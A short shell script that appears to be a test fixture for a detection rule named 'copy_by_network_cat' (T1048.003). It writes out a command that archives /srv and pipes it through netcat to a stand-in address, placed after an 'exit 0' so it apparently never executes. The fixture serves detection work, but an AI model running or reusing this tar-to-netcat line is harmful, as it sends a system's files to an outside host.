#!/bin/sh
# what: Names a file on its way into netcat, in a command line that ends before it.
# rule: copy_by_network_cat
# technique: T1048.003
# severity: medium
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cd "$d" || exit
sh -c 'exit 0
tar cz /srv | nc 198.51.100.7 9001'
